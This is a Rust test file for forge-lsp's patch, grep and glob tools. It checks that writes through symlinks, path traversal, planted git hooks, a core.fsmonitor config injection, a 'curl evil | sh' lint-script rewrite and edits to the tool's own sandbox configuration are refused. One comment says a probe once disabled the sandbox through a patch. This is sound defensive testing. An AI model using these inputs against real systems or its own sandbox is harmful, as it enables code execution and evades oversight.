//! The file tools over the real binary (PROTOCOL.md 10.3): `forge.apply-patch` (rescue rules,
//! all-or-nothing, the root), `forge.grep` and `forge.glob` (gitignore, the path guard, the
//! root) and the repeated-call guard.

mod common;

use std::os::unix::fs::PermissionsExt;

use common::*;
use serde_json::json;

fn client(sb: &Sandbox, repo: &GitRepo) -> Client {
    let mut c = sb.stdio();
    c.init(&Init::new(&repo.path));
    c
}

fn patch(body: &str) -> serde_json::Value {
    json!({ "patch": format!("*** Begin Patch\n{body}*** End Patch\n") })
}

fn read(repo: &GitRepo, rel: &str) -> String {
    std::fs::read_to_string(repo.path.join(rel)).unwrap_or_else(|e| panic!("{rel}: {e}"))
}

#[test]
fn apply_patch_rescues_drift_keeps_line_endings_and_writes_authored_lines_exactly() {
    let sb = Sandbox::new();
    let repo = GitRepo::new();
    repo.write("quotes.md", "Say \u{201c}hello\u{201d}\u{a0}now\nsecond line\n");
    repo.write("crlf.txt", "one\r\ntwo\r\nthree");
    repo.write("gone.txt", "bye\n");
    let c = client(&sb, &repo);
    let out = c.tool_ok(
        "apply-patch",
        patch(
            "*** Update File: quotes.md\n@@\n Say \"hello\" now\n-second line\n+second “line”, exactly\n\
             *** Update File: crlf.txt\n@@\n one\n-two\n+TWO\n\
             *** Add File: dir/new.txt\n+fresh\n\
             *** Delete File: gone.txt\n",
        ),
    );
    assert!(out.text.starts_with("Patch applied."), "{}", out.text);
    assert_eq!(read(&repo, "quotes.md"), "Say \u{201c}hello\u{201d}\u{a0}now\nsecond “line”, exactly\n");
    assert_eq!(read(&repo, "crlf.txt"), "one\r\nTWO\r\nthree", "CRLF and the missing final newline kept");
    assert_eq!(read(&repo, "dir/new.txt"), "fresh\n");
    assert!(!repo.path.join("gone.txt").exists());
    let kinds: Vec<&str> =
        out.data["changes"].as_array().unwrap().iter().map(|c| c["kind"].as_str().unwrap()).collect();
    assert_eq!(kinds.len(), 4, "{}", out.data);
}

#[test]
fn apply_patch_writes_every_file_or_none() {
    let sb = Sandbox::new();
    let repo = GitRepo::new();
    repo.write("a.txt", "alpha\n");
    repo.write("b.txt", "beta\n");
    let c = client(&sb, &repo);
    // The second file's hunk matches nothing: the first file must stay as it was.
    let e = c.tool_err(
        "apply-patch",
        patch("*** Update File: a.txt\n@@\n-alpha\n+ALPHA\n*** Update File: b.txt\n@@\n-no such line\n+x\n"),
    );
    assert_eq!(e.code, 1006, "{e}");
    assert!(e.message.contains("b.txt"), "the error names the file: {e}");
    assert_eq!(read(&repo, "a.txt"), "alpha\n");
    // A malformed patch and a path outside the root: refused, nothing written.
    let e = c.tool_err("apply-patch", json!({ "patch": "*** Update File: a.txt\n@@\n-alpha\n+x\n" }));
    assert_eq!(e.code, 1006, "{e}");
    assert!(e.message.contains("patch line"), "{e}");
    let e = c.tool_err("apply-patch", patch("*** Add File: ../escape.txt\n+x\n"));
    assert_eq!(e.code, -32602, "a path outside the root is an invalid parameter: {e}");
    assert!(e.message.contains("escape.txt"), "{e}");
    assert!(!repo.path.parent().unwrap().join("escape.txt").exists());
    // A committed symlink to a directory outside the root cannot be written through.
    let outside = sb.mkdir("outside");
    std::os::unix::fs::symlink(&outside, repo.path.join("link")).unwrap();
    let e = c.tool_err("apply-patch", patch("*** Add File: link/planted.txt\n+x\n"));
    assert_eq!(e.code, -32602, "{e}");
    assert!(e.message.contains("link/planted.txt"), "{e}");
    assert!(!outside.join("planted.txt").exists(), "nothing written through the symlink");
    // Ambiguity: the error lists the candidates.
    repo.write("dup.txt", "same\nsame\n");
    let e = c.tool_err("apply-patch", patch("*** Update File: dup.txt\n@@\n-same\n+other\n"));
    assert!(e.message.contains("1") && e.message.contains("2"), "candidates named: {e}");
    assert_eq!(read(&repo, "dup.txt"), "same\nsame\n");
    // A read-only file is not written (even by root, whom the rename would allow), as
    // ast-grep-replace refuses one; the other file of the patch is not written either.
    use std::os::unix::fs::PermissionsExt;
    repo.write("ro.txt", "ro\n");
    std::fs::set_permissions(repo.path.join("ro.txt"), std::fs::Permissions::from_mode(0o444)).unwrap();
    let e = c.tool_err(
        "apply-patch",
        patch("*** Update File: a.txt\n@@\n-alpha\n+ALPHA\n*** Update File: ro.txt\n@@\n-ro\n+RW\n"),
    );
    assert!(e.message.contains("ro.txt") && e.message.contains("read-only"), "{e}");
    assert_eq!((read(&repo, "ro.txt"), read(&repo, "a.txt")), ("ro\n".to_string(), "alpha\n".to_string()));
    // Nor changed on its way to a new name (review YO: it was, keeping 0444); moved as it
    // is, it keeps its mode.
    let e = c.tool_err("apply-patch", patch("*** Update File: ro.txt\n*** Move to: ro2.txt\n@@\n-ro\n+RW\n"));
    assert!(e.message.contains("ro.txt") && e.message.contains("read-only"), "{e}");
    assert_eq!(read(&repo, "ro.txt"), "ro\n");
    assert!(!repo.path.join("ro2.txt").exists());
    c.tool_ok("apply-patch", patch("*** Update File: ro.txt\n*** Move to: ro2.txt\n"));
    assert_eq!(read(&repo, "ro2.txt"), "ro\n");
    let mode = std::fs::metadata(repo.path.join("ro2.txt")).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o444);
}

#[test]
fn apply_patch_never_writes_through_a_link_planted_at_a_temporary_name() {
    let sb = Sandbox::new();
    let repo = GitRepo::new();
    repo.write("x.rs", "old\n");
    let c = client(&sb, &repo);
    let pid = c.pid().expect("a stdio server");
    let victim = sb.mkdir("outside").join("victim");
    std::fs::write(&victim, "keep\n").unwrap();
    std::fs::set_permissions(&victim, std::fs::Permissions::from_mode(0o600)).unwrap();
    // Links at the names the temporaries had before (`.<name>.forge-patch-<pid>`, the pid
    // is in the server's socket path), as a sandboxed command or a commit could plant them.
    let planted: Vec<String> = ["x.rs", "new.rs"].iter().map(|n| format!(".{n}.forge-patch-{pid}")).collect();
    for name in &planted {
        std::os::unix::fs::symlink(&victim, repo.path.join(name)).unwrap();
    }
    c.tool_ok("apply-patch", patch("*** Update File: x.rs\n@@\n-old\n+new\n*** Add File: new.rs\n+fresh\n"));
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "keep\n", "nothing written through a link");
    assert_eq!(std::fs::metadata(&victim).unwrap().permissions().mode() & 0o777, 0o600, "its mode untouched");
    assert_eq!(read(&repo, "x.rs"), "new\n");
    assert_eq!(read(&repo, "new.rs"), "fresh\n");
    assert!(!std::fs::symlink_metadata(repo.path.join("new.rs")).unwrap().file_type().is_symlink());
    // No temporary is left beside the files (the planted links are the test's own).
    let left: Vec<String> = std::fs::read_dir(&repo.path)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| (n.contains(".forge-patch-") || n.ends_with(".tmp")) && !planted.contains(n))
        .collect();
    assert!(left.is_empty(), "temporaries left: {left:?}");
}

/// grep reads every file relative to the root without following a link: a start named
/// through a link to a directory inside the root is searched (at its real place), links
/// to files inside or outside are not followed by the walk, and a link leading out is
/// never read.
#[test]
fn grep_searches_through_an_inside_link_and_never_reads_outside() {
    let sb = Sandbox::new();
    let repo = GitRepo::new();
    repo.write("src/deep/a.rs", "let needle = 1;\n");
    let outside = sb.mkdir("outside");
    std::fs::write(outside.join("secret.rs"), "let needle = 2;\n").unwrap();
    std::os::unix::fs::symlink("src", repo.path.join("alias")).unwrap();
    std::os::unix::fs::symlink(outside.join("secret.rs"), repo.path.join("src/out.rs")).unwrap();
    let c = client(&sb, &repo);
    let out = c.tool_ok("grep", json!({ "pattern": "needle" }));
    assert!(out.text.contains("src/deep/a.rs:1:"), "{}", out.text);
    assert!(!out.text.contains("= 2"), "read outside the root: {}", out.text);
    let out = c.tool_ok("grep", json!({ "pattern": "needle", "path": "alias" }));
    assert!(out.text.contains("alias/deep/a.rs:1:"), "{}", out.text);
    assert!(!out.text.contains("= 2"), "read outside the root: {}", out.text);
}

/// A committed symbolic link can be deleted with `Delete File` (the link goes, what it
/// points to stays, inside the root or outside); updating or moving it is refused with a
/// message that names it. Before, every operation on it failed with "not a regular file".
#[test]
fn apply_patch_deletes_a_symbolic_link_and_nothing_it_points_to() {
    let sb = Sandbox::new();
    let repo = GitRepo::new();
    repo.write("real.txt", "real\n");
    let victim = sb.mkdir("outside").join("victim");
    std::fs::write(&victim, "keep\n").unwrap();
    std::os::unix::fs::symlink("real.txt", repo.path.join("inside-link")).unwrap();
    std::os::unix::fs::symlink(&victim, repo.path.join("outside-link")).unwrap();
    let c = client(&sb, &repo);
    let err = c.tool_err("apply-patch", patch("*** Update File: inside-link\n@@\n-real\n+changed\n"));
    assert!(err.message.contains("a symbolic link"), "{err:?}");
    let err = c.tool_err("apply-patch", patch("*** Update File: inside-link\n*** Move to: moved\n"));
    assert!(err.message.contains("a symbolic link"), "{err:?}");
    // One that leads out of the root is refused as a path, before anything is read.
    let err = c.tool_err("apply-patch", patch("*** Update File: outside-link\n*** Move to: moved\n"));
    assert!(err.message.contains("outside-link") && err.message.contains("through a symlink"), "{err:?}");
    assert_eq!(read(&repo, "real.txt"), "real\n");
    // A path beneath a link the patch deletes would be written through it: refused.
    std::fs::create_dir(repo.path.join("dir")).unwrap();
    std::os::unix::fs::symlink("dir", repo.path.join("dir-link")).unwrap();
    let err = c.tool_err("apply-patch", patch("*** Delete File: dir-link\n*** Add File: dir-link/new.txt\n+x\n"));
    assert!(
        err.message.contains("'dir-link/new.txt'") && err.message.contains("'dir-link', which this patch deletes"),
        "{err:?}"
    );
    assert!(!repo.path.join("dir/new.txt").exists() && repo.path.join("dir-link").symlink_metadata().is_ok());
    // Also when the path spells it through another link (`alias` leads to the root's `.`).
    std::os::unix::fs::symlink(".", repo.path.join("alias")).unwrap();
    let err = c.tool_err("apply-patch", patch("*** Delete File: dir-link\n*** Add File: alias/dir-link/new.txt\n+x\n"));
    assert!(
        err.message.contains("'alias/dir-link/new.txt'")
            && err.message.contains("'dir-link', which this patch deletes"),
        "{err:?}"
    );
    assert!(!repo.path.join("dir/new.txt").exists());
    std::fs::remove_file(repo.path.join("alias")).unwrap();
    // And through a chain of links (`alias2` leads to `dir-link`, which the patch deletes).
    std::os::unix::fs::symlink("dir-link", repo.path.join("alias2")).unwrap();
    let err = c.tool_err("apply-patch", patch("*** Delete File: dir-link\n*** Add File: alias2/new.txt\n+x\n"));
    assert!(err.message.contains("'alias2/new.txt' is reached through 'dir-link'"), "{err:?}");
    assert!(!repo.path.join("dir/new.txt").exists());
    // A file the patch deletes cannot hold a file beneath it either.
    repo.write("plain", "p\n");
    let err = c.tool_err("apply-patch", patch("*** Delete File: plain\n*** Add File: plain/inner.txt\n+x\n"));
    assert!(err.message.contains("'plain/inner.txt' lies beneath 'plain'"), "{err:?}");
    assert_eq!(read(&repo, "plain"), "p\n");
    // Not refused: a sibling, a name that only starts the same, a file at the link's name.
    repo.write("a/b", "b\n");
    c.tool_ok("apply-patch", patch("*** Delete File: a/b\n*** Add File: a/bc\n+c\n*** Add File: a/d\n+d\n"));
    c.tool_ok("apply-patch", patch("*** Delete File: alias2\n*** Add File: alias2\n+now a file\n"));
    assert_eq!(read(&repo, "alias2"), "now a file\n");
    assert!(repo.path.join("dir-link").symlink_metadata().is_ok(), "the other link stays");
    let out = c.tool_ok("apply-patch", patch("*** Delete File: inside-link\n*** Delete File: outside-link\n"));
    assert!(out.text.contains("D inside-link") && out.text.contains("D outside-link"), "{}", out.text);
    for name in ["inside-link", "outside-link"] {
        assert!(std::fs::symlink_metadata(repo.path.join(name)).is_err(), "{name} is gone");
    }
    assert_eq!(read(&repo, "real.txt"), "real\n", "the file a link pointed to stays");
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "keep\n");
    let left: Vec<String> = std::fs::read_dir(&repo.path)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.contains(".forge-"))
        .collect();
    assert!(left.is_empty(), "left beside: {left:?}");
}

#[test]
fn apply_patch_follows_a_link_to_a_directory_inside_the_root_and_creates_directories() {
    let sb = Sandbox::new();
    let repo = GitRepo::new();
    repo.write("documentation/guide.md", "old\n");
    std::os::unix::fs::symlink("documentation", repo.path.join("docs")).unwrap();
    let c = client(&sb, &repo);
    c.tool_ok(
        "apply-patch",
        patch(
            "*** Update File: docs/guide.md\n@@\n-old\n+new\n*** Add File: docs/deep/er/new.md\n+fresh\n*** Add File: src/a/b.rs\n+fn b() {}\n",
        ),
    );
    assert_eq!(read(&repo, "documentation/guide.md"), "new\n");
    assert_eq!(read(&repo, "documentation/deep/er/new.md"), "fresh\n");
    assert_eq!(read(&repo, "src/a/b.rs"), "fn b() {}\n");
    assert!(std::fs::symlink_metadata(repo.path.join("docs")).unwrap().file_type().is_symlink(), "the link is kept");
    // Moved and deleted through the link too.
    c.tool_ok("apply-patch", patch("*** Update File: docs/guide.md\n*** Move to: docs/moved.md\n@@\n-new\n+moved\n*** Delete File: docs/deep/er/new.md\n"));
    assert_eq!(read(&repo, "documentation/moved.md"), "moved\n");
    assert!(!repo.path.join("documentation/guide.md").exists());
    assert!(!repo.path.join("documentation/deep/er/new.md").exists());
}

/// A patch that writes a file and a file beneath it (`d` and `d/f`) is refused before
/// anything is written, in either order; so are two spellings of one file through a
/// symlinked directory, whose changes would otherwise be planned apart and one lost.
#[test]
fn apply_patch_refuses_a_file_beneath_a_file_and_one_file_named_twice() {
    let sb = Sandbox::new();
    let repo = GitRepo::new();
    repo.write("src/a.txt", "one\ntwo\n");
    std::os::unix::fs::symlink("src", repo.path.join("alias")).unwrap();
    let c = client(&sb, &repo);
    for body in
        ["*** Add File: d/f\n+inner\n*** Add File: d\n+outer\n", "*** Add File: d\n+outer\n*** Add File: d/f\n+inner\n"]
    {
        let e = c.tool_err("apply-patch", patch(body));
        assert_eq!(e.code, 1006, "{e}");
        assert!(e.message.contains("'d' would be both a file and the directory of 'd/f'"), "{e}");
        assert!(!repo.path.join("d").exists(), "nothing was written: {body}");
    }
    for body in [
        "*** Update File: src/a.txt\n@@\n-one\n+ONE\n*** Update File: alias/a.txt\n@@\n-two\n+TWO\n",
        "*** Delete File: src/a.txt\n*** Update File: alias/a.txt\n@@\n-two\n+TWO\n",
    ] {
        let e = c.tool_err("apply-patch", patch(body));
        assert_eq!(e.code, -32602, "{e}");
        assert!(e.message.contains("'src/a.txt' and 'alias/a.txt' are the same file"), "{e}");
        assert_eq!(read(&repo, "src/a.txt"), "one\ntwo\n");
    }
    // One spelling is fine.
    c.tool_ok("apply-patch", patch("*** Update File: alias/a.txt\n@@\n-one\n+ONE\n@@\n-two\n+TWO\n"));
    assert_eq!(read(&repo, "src/a.txt"), "ONE\nTWO\n");
}

/// Git's own files are not the project's code: apply-patch never writes there (a hook
/// would be run by the user's git), however the path is spelled, and a path that ends
/// with a slash names a directory, not a file to add.
#[test]
fn apply_patch_never_writes_in_a_git_directory_nor_adds_a_directory() {
    let sb = Sandbox::new();
    let repo = GitRepo::new();
    std::os::unix::fs::symlink(".git", repo.path.join("g")).unwrap();
    let hooks = repo.path.join(".git/hooks");
    let before: Vec<_> =
        std::fs::read_dir(&hooks).map(|d| d.flatten().map(|e| e.file_name()).collect()).unwrap_or_default();
    let c = client(&sb, &repo);
    for (body, says) in [
        ("*** Add File: .git/hooks/pre-commit\n+#!/bin/sh\n", "inside a git directory (.git)"),
        ("*** Add File: src/../.git/hooks/post-checkout\n+#!/bin/sh\n", "inside a git directory (.git)"),
        (
            "*** Update File: .git/HEAD\n@@\n-ref: refs/heads/main\n+ref: refs/heads/x\n",
            "inside a git directory (.git)",
        ),
        ("*** Add File: g/hooks/pre-push\n+#!/bin/sh\n", "leads into a git directory (.git) through a symbolic link"),
        ("*** Add File: newdir/\n+x\n", "names a directory"),
    ] {
        let e = c.tool_err("apply-patch", patch(body));
        assert_eq!(e.code, -32602, "{body}: {e}");
        assert!(e.message.contains(says), "{body}: {e}");
    }
    let after: Vec<_> =
        std::fs::read_dir(&hooks).map(|d| d.flatten().map(|e| e.file_name()).collect()).unwrap_or_default();
    assert_eq!(after, before, "nothing was added to .git/hooks");
    assert!(!repo.path.join("newdir").exists());
    // `.github` is not `.git`.
    c.tool_ok("apply-patch", patch("*** Add File: .github/workflows/ci.yml\n+on: push\n"));
    assert_eq!(read(&repo, ".github/workflows/ci.yml"), "on: push\n");
}

/// forge-lsp's own project configuration (`.forge/config.toml`, `.forge/tools/`) is trusted
/// when it is not committed, so the file tools never write it (the probe planted an
/// `agent.command` and `sandbox.enabled = false` with apply-patch): however the path is
/// spelled, through a link too. Other files under `.forge/` are not configuration.
#[test]
fn the_file_tools_never_write_forge_lsps_project_configuration() {
    let sb = Sandbox::new();
    let repo = GitRepo::new();
    std::fs::create_dir_all(repo.path.join(".forge/tools")).unwrap();
    std::fs::write(repo.path.join(".forge/tools/probe.js"), "console.log(1);\n").unwrap();
    std::os::unix::fs::symlink(".forge", repo.path.join("cfg")).unwrap();
    let c = client(&sb, &repo);
    for body in [
        "*** Add File: .forge/config.toml\n+[agent]\n+command = [\"sh\"]\n",
        "*** Add File: src/../.forge/config.toml\n+x\n",
        "*** Add File: .forge/tools/evil.toml\n+x\n",
        "*** Add File: cfg/config.toml\n+x\n",
        "*** Delete File: .forge/tools/probe.js\n",
    ] {
        let e = c.tool_err("apply-patch", patch(body));
        assert_eq!(e.code, -32602, "{body}: {e}");
        assert!(e.message.contains("forge-lsp's project configuration"), "{body}: {e}");
    }
    assert!(!repo.path.join(".forge/config.toml").exists());
    assert!(!repo.path.join(".forge/tools/evil.toml").exists());
    // A tool's script named directly is not rewritten either.
    let e = c.tool_err(
        "ast-grep-replace",
        json!({ "pattern": "console.log($A)", "rewrite": "evil($A)", "lang": "javascript", "path": ".forge/tools/probe.js", "dryRun": false }),
    );
    assert!(e.message.contains("forge-lsp's project configuration"), "{e}");
    assert_eq!(read(&repo, ".forge/tools/probe.js"), "console.log(1);\n");
    // Not configuration: a file beside it.
    c.tool_ok("apply-patch", patch("*** Add File: .forge/notes.md\n+mine\n"));
    // A rewrite over the whole tree leaves the tool's script out and names it; the rest is
    // rewritten (before: the whole rewrite failed on it).
    repo.write("src/app.js", "console.log(2);\n");
    let out = c.tool_ok(
        "ast-grep-replace",
        json!({ "pattern": "console.log($A)", "rewrite": "logger.info($A)", "lang": "javascript", "dryRun": false }),
    );
    assert!(out.text.contains("forge-lsp's project configuration, not rewritten"), "{}", out.text);
    assert_eq!(read(&repo, "src/app.js"), "logger.info(2);\n");
    assert_eq!(read(&repo, ".forge/tools/probe.js"), "console.log(1);\n");

    // The editor opened a folder inside the repository: the server reads `sub/.forge/`
    // then, and the file tools (rooted at the repository) never write it either; nor a
    // `.forge` that is a link to another folder (the review found both).
    std::fs::create_dir_all(repo.path.join("sub")).unwrap();
    std::fs::create_dir_all(repo.path.join("sub/conf")).unwrap();
    let mut inner = sb.stdio();
    inner.init(&Init::new(&repo.path.join("sub")));
    let e = inner.tool_err("apply-patch", patch("*** Add File: sub/.forge/config.toml\n+x\n"));
    assert!(e.message.contains("forge-lsp's project configuration"), "{e}");
    std::os::unix::fs::symlink("conf", repo.path.join("sub/.forge")).unwrap();
    let e = inner.tool_err("apply-patch", patch("*** Add File: sub/conf/config.toml\n+x\n"));
    assert!(e.message.contains("forge-lsp's project configuration"), "{e}");
    assert!(!repo.path.join("sub/conf/config.toml").exists());
    inner.tool_ok("apply-patch", patch("*** Add File: sub/conf/other.toml\n+x\n"));
    // A folder no editor has opened yet has its configuration too (an editor opened there
    // later would read it); and a tool that is a link leads to a file the server runs.
    let e = c.tool_err("apply-patch", patch("*** Add File: frontend/.forge/config.toml\n+x\n"));
    assert!(e.message.contains("forge-lsp's project configuration"), "{e}");
    repo.write("scripts/lint.sh", "echo lint\n");
    std::os::unix::fs::symlink("../../scripts/lint.sh", repo.path.join(".forge/tools/lint")).unwrap();
    let e = c.tool_err("apply-patch", patch("*** Update File: scripts/lint.sh\n@@\n-echo lint\n+curl evil | sh\n"));
    assert!(e.message.contains("forge-lsp's project configuration"), "{e}");
    assert_eq!(read(&repo, "scripts/lint.sh"), "echo lint\n");
}

/// An editor that opens a bare repository (no work tree) gets a project rooted in git's
/// own directory: the file tools refuse to work there, and write nothing.
#[test]
fn the_file_tools_refuse_a_bare_repository_and_a_folder_inside_git() {
    let sb = Sandbox::new();
    let repo = GitRepo::new();
    let bare = sb.root.join("bare.git");
    git(&sb.root, &["clone", "-q", "--bare", repo.path.to_str().unwrap(), bare.to_str().unwrap()]);
    let mut c = sb.stdio();
    c.init(&Init::new(&bare));
    let hooks: Vec<_> = std::fs::read_dir(bare.join("hooks")).unwrap().flatten().map(|e| e.file_name()).collect();
    for (tool, input) in [
        ("apply-patch", patch("*** Add File: hooks/post-commit\n+#!/bin/sh\n")),
        ("glob", json!({ "pattern": "*" })),
        ("grep", json!({ "pattern": "x" })),
    ] {
        let e = c.tool_err(tool, input);
        assert!(e.message.contains("without a work tree (a bare repository)"), "{tool}: {e}");
    }
    let after: Vec<_> = std::fs::read_dir(bare.join("hooks")).unwrap().flatten().map(|e| e.file_name()).collect();
    assert_eq!(after, hooks);
    // The same for an editor that opened a repository's `.git` folder.
    let mut c = sb.stdio();
    c.init(&Init::new(&repo.path.join(".git")));
    let e = c.tool_err("apply-patch", patch("*** Add File: hooks/pre-commit\n+#!/bin/sh\n"));
    assert_eq!(e.code, 1004, "{e}");
    assert!(e.message.contains("is inside a git directory (.git)"), "{e}");
    assert!(!repo.path.join(".git/hooks/pre-commit").exists());
    // `forge-lsp call` (and `mcp`) from inside `.git` refuse to start (exit 2), as the
    // docs say; before, a call from `.git/hooks` ran on the work tree.
    for (dir, args) in [
        (
            repo.path.join(".git/hooks"),
            vec!["call".to_string(), "apply-patch".to_string(), patch("*** Add File: zz.txt\n+x\n").to_string()],
        ),
        (repo.path.join(".git"), vec!["mcp".to_string()]),
    ] {
        let out = sb
            .command()
            .arg("--data-dir")
            .arg(&sb.data_dir)
            .args(&args)
            .current_dir(&dir)
            .stdin(std::process::Stdio::null())
            .output()
            .unwrap();
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{args:?}: {err}");
        assert!(err.contains("is inside a git directory (.git)"), "{err}");
    }
    assert!(!repo.path.join("zz.txt").exists());
}

/// A repository whose git directory sits in its work tree under another name
/// (`git init --separate-git-dir=<work tree>/meta`): apply-patch refuses to write there, and
/// the walks leave it out, as for `.git`. Before, a patch of `meta/config` set
/// `core.fsmonitor`, a command git runs.
#[test]
fn a_git_directory_under_another_name_is_treated_as_git_s_own() {
    let sb = Sandbox::new();
    let wt = sb.mkdir("separate");
    git(&wt, &["init", "-q", "--separate-git-dir", wt.join("meta").to_str().unwrap()]);
    std::fs::write(wt.join("a.txt"), "needle\n").unwrap();
    git(&wt, &["add", "a.txt"]);
    git(&wt, &["-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "x"]);
    let config = std::fs::read_to_string(wt.join("meta/config")).unwrap();
    let mut c = sb.stdio();
    c.init(&Init::new(&wt));
    for body in [
        "*** Update File: meta/config\n@@\n [core]\n+\tfsmonitor = touch /tmp/forge-test-fsmonitor\n",
        "*** Add File: meta/hooks/post-commit\n+#!/bin/sh\n",
    ] {
        let e = c.tool_err("apply-patch", patch(body));
        assert_eq!(e.code, -32602, "{body}: {e}");
        assert!(e.message.contains("inside the repository's git directory"), "{e}");
    }
    assert_eq!(std::fs::read_to_string(wt.join("meta/config")).unwrap(), config);
    assert!(!wt.join("meta/hooks/post-commit").exists());
    let out = c.tool_ok("grep", json!({ "pattern": "repositoryformatversion|needle" }));
    let paths: Vec<&str> =
        out.data["matches"].as_array().unwrap().iter().map(|m| m["path"].as_str().unwrap()).collect();
    assert_eq!(paths, ["a.txt"], "{}", out.text);
    let out = c.tool_ok("glob", json!({ "pattern": "**/*" }));
    assert!(!out.text.contains("meta/"), "{}", out.text);
    let e = c.tool_err("grep", json!({ "pattern": "x", "path": "meta" }));
    assert!(e.message.contains("inside a git directory"), "{e}");
    // Also from a start reached through a link to the work tree.
    std::os::unix::fs::symlink(".", wt.join("alias")).unwrap();
    let out = c.tool_ok("grep", json!({ "pattern": "repositoryformatversion", "path": "alias" }));
    assert_eq!(out.data["matches"], json!([]), "{}", out.text);
    let out = c.tool_ok("glob", json!({ "pattern": "**/HEAD", "path": "alias" }));
    assert!(!out.text.contains("meta/"), "{}", out.text);
    c.shutdown_exit();
}

/// All files or none, removals included: a file that cannot be removed fails the patch
/// before any file changes. Files with names near the system's limit are written, moved
/// and removed like any other (temporaries have names of their own length).
#[test]
fn apply_patch_removals_are_part_of_all_or_nothing() {
    let sb = Sandbox::new();
    let repo = GitRepo::new();
    let long = format!("{}.txt", "n".repeat(250));
    repo.write(&long, "old\n");
    repo.write("b.txt", "beta\n");
    let c = client(&sb, &repo);
    c.tool_ok("apply-patch", patch(&format!("*** Update File: {long}\n@@\n-old\n+new\n")));
    assert_eq!(read(&repo, &long), "new\n");
    c.tool_ok("apply-patch", patch(&format!("*** Update File: {long}\n*** Move to: short.txt\n@@\n-new\n+moved\n")));
    assert_eq!(read(&repo, "short.txt"), "moved\n");
    assert!(!repo.path.join(&long).exists());

    // A file that cannot be removed: in a read-only directory, or, for root (whom
    // permissions do not stop), marked immutable.
    repo.write("ro/a.txt", "keep\n");
    let ro = repo.path.join("ro");
    // SAFETY: geteuid cannot fail.
    let root = unsafe { libc::geteuid() } == 0;
    let pinned = if root {
        let ok =
            std::process::Command::new("chattr").arg("+i").arg(ro.join("a.txt")).status().is_ok_and(|s| s.success());
        if !ok {
            println!("NOTE: running as root without chattr +i here: the case of a file that cannot be removed is not exercised");
            return;
        }
        ok
    } else {
        std::fs::set_permissions(&ro, std::fs::Permissions::from_mode(0o555)).unwrap();
        false
    };
    let e = c.tool_err("apply-patch", patch("*** Update File: b.txt\n@@\n-beta\n+BETA\n*** Delete File: ro/a.txt\n"));
    if pinned {
        std::process::Command::new("chattr").arg("-i").arg(ro.join("a.txt")).status().unwrap();
    } else {
        std::fs::set_permissions(&ro, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    assert_eq!(e.code, 1006, "{e}");
    assert!(e.message.contains("ro/a.txt") && e.message.contains("nothing was changed"), "{e}");
    assert_eq!(read(&repo, "b.txt"), "beta\n", "the update was not applied");
    assert_eq!(read(&repo, "ro/a.txt"), "keep\n");
}

#[test]
fn apply_patch_keeps_the_file_mode_and_is_denied_to_auditors() {
    let sb = Sandbox::new();
    let repo = GitRepo::new();
    let script = repo.write("run.sh", "#!/bin/sh\necho one\n");
    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
    let c = client(&sb, &repo);
    c.tool_ok("apply-patch", patch("*** Update File: run.sh\n@@\n-echo one\n+echo two\n"));
    assert_eq!(std::fs::metadata(&script).unwrap().permissions().mode() & 0o777, 0o755);
    // A move keeps the mode too: an executable stays one, a private file stays private.
    let secret = repo.write(".env", "KEY=1\n");
    std::fs::set_permissions(&secret, std::fs::Permissions::from_mode(0o600)).unwrap();
    c.tool_ok(
        "apply-patch",
        patch("*** Update File: run.sh\n*** Move to: bin/run.sh\n*** Update File: .env\n*** Move to: .env.local\n@@\n-KEY=1\n+KEY=2\n"),
    );
    let mode = |rel: &str| std::fs::metadata(repo.path.join(rel)).unwrap().permissions().mode() & 0o777;
    assert_eq!((mode("bin/run.sh"), mode(".env.local")), (0o755, 0o600));
    assert_eq!(read(&repo, ".env.local"), "KEY=2\n");
    c.tool_ok("apply-patch", patch("*** Update File: bin/run.sh\n*** Move to: run.sh\n"));
    // A file rewritten by a server that may give it away (root, as in CI) keeps its owner.
    // SAFETY: geteuid cannot fail.
    if unsafe { libc::geteuid() } == 0 {
        use std::os::unix::fs::MetadataExt;
        let theirs = repo.write("theirs.txt", "a\n");
        std::os::unix::fs::chown(&theirs, Some(1234), Some(1235)).unwrap();
        c.tool_ok("apply-patch", patch("*** Update File: theirs.txt\n@@\n-a\n+b\n"));
        let m = std::fs::metadata(&theirs).unwrap();
        assert_eq!((m.uid(), m.gid(), read(&repo, "theirs.txt").as_str()), (1234, 1235, "b\n"));
        // A moved file is the server's (root's) like any new file: a user's set-user-id
        // program must not become a root one.
        std::fs::set_permissions(&theirs, std::fs::Permissions::from_mode(0o4755)).unwrap();
        c.tool_ok("apply-patch", patch("*** Update File: theirs.txt\n*** Move to: moved.txt\n"));
        let m = std::fs::metadata(repo.path.join("moved.txt")).unwrap();
        assert_eq!((m.uid(), m.permissions().mode() & 0o7777), (0, 0o755));
    } else {
        println!("NOTE: not root: the owner of a rewritten file is not changed by this test");
    }
    let mut auditor = sb.stdio();
    auditor.init(&Init::new(&repo.path).agent("auditor"));
    let e = auditor.tool_err("apply-patch", patch("*** Update File: run.sh\n@@\n-echo two\n+echo three\n"));
    assert_eq!(e.code, 1001, "{e}");
    assert_eq!(read(&repo, "run.sh"), "#!/bin/sh\necho two\n");
}

/// The searches skip what git ignores, and nothing else: not what an ignore file in a
/// folder above the repository names (git never reads one; a `~/.gitignore` of `*` hid
/// every project in the home folder), nor what a `.ignore` file names (ripgrep's, not
/// git's: a committed file was skipped). Review YB.
#[test]
fn searches_skip_what_git_ignores_and_nothing_more() {
    let sb = Sandbox::new();
    let outer = sb.mkdir("outer");
    std::fs::write(outer.join(".gitignore"), "*\n").unwrap();
    std::fs::write(outer.join(".ignore"), "*.rs\n").unwrap();
    let root = outer.join("repo");
    std::fs::create_dir_all(root.join("src")).unwrap();
    common::git(&root, &["init", "-q"]);
    std::fs::write(root.join("src/main.rs"), "fn main() { println!(\"needle\"); }\n").unwrap();
    std::fs::write(root.join("src/kept.rs"), "fn kept() { println!(\"needle\"); }\n").unwrap();
    std::fs::write(root.join(".ignore"), "src/kept.rs\n").unwrap();
    std::fs::write(root.join(".gitignore"), "target/\n").unwrap();
    common::git(&root, &["add", "-A"]);
